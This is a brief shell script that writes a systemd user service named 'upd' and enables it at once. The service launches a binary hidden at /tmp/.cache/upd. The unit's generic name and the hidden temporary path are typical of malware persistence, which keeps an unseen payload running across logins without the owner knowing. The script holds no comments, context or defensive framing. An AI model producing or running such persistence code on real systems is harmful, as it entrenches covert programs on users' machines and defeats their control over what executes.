#!/bin/sh
mkdir -p ~/.config/systemd/user && cat > ~/.config/systemd/user/upd.service <<'EOF'
[Service]
ExecStart=/tmp/.cache/upd
EOF
systemctl --user enable --now upd.service
